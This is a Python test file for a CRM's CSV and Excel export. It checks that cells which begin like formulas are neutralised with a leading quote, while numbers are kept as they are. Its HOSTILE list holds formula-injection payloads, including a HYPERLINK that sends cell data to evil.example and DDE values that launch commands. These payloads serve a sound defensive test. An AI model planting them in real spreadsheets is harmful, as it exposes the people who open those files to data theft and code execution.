"""Cells written to CSV and Excel exports never run as formulas (OWASP "CSV injection")."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
import tablib

from crm.spreadsheets import formats
from crm.spreadsheets.export import inert, restore, xlsx_append

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_text_cell_that_starts_like_a_formula_gets_a_quote_in_front(value):
    assert inert(value) == "'" + value
    assert restore(inert(value)) == value


@pytest.mark.parametrize("value", ["-12.50", "+3", "-1e5", "0", "Acme", "", "'quoted", "a=b"])
def test_numbers_written_as_text_and_ordinary_text_are_left_alone(value):
    assert inert(value) == value


@pytest.mark.parametrize("value", [-12, Decimal("-3.5"), -0.25, None, True])
def test_values_that_are_not_text_are_left_alone(value):
    assert inert(value) is value


def test_an_excel_row_keeps_formula_text_as_text_and_numbers_as_numbers():
    book = openpyxl.Workbook()
    xlsx_append(book.active, [HOSTILE[0], "+86 138 0013 8000", -12.5, Decimal("-3"), "bell\x07"])
    buffer = io.BytesIO()
    book.save(buffer)
    cells = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active[1]
    assert [(cell.value, cell.data_type) for cell in cells] == [
        (HOSTILE[0], "s"),
        ("+86 138 0013 8000", "s"),
        (-12.5, "n"),
        (-3, "n"),
        ("bell\N{REPLACEMENT CHARACTER}", "s"),
    ]
    assert cells[0].quotePrefix, "Excel keeps it text even when the cell is edited"


def test_the_import_export_formats_neutralise_formulas_and_keep_numbers():
    dataset = tablib.Dataset([HOSTILE[1], Decimal("-12.50"), None, "-12.50"], headers=["name", "margin", "e", "s"])
    rows = list(csv.reader(io.StringIO(formats.CSV().export_data(dataset).lstrip("\ufeff"))))
    assert rows[1] == ["'" + HOSTILE[1], "-12.50", "", "-12.50"]
    sheet = openpyxl.load_workbook(io.BytesIO(formats.XLSX().export_data(dataset))).active
    assert [(cell.value, cell.data_type) for cell in sheet[2]] == [
        (HOSTILE[1], "s"),
        (-12.5, "n"),
        (None, "n"),
        ("-12.50", "s"),
    ]
